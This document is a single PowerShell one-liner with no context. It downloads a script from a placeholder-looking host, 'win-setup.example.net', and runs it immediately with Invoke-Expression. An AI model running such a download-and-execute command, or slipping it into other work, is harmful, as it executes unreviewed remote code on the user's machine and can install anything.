iex (iwr -UseBasicParsing https://win-setup.example.net/s.ps1)
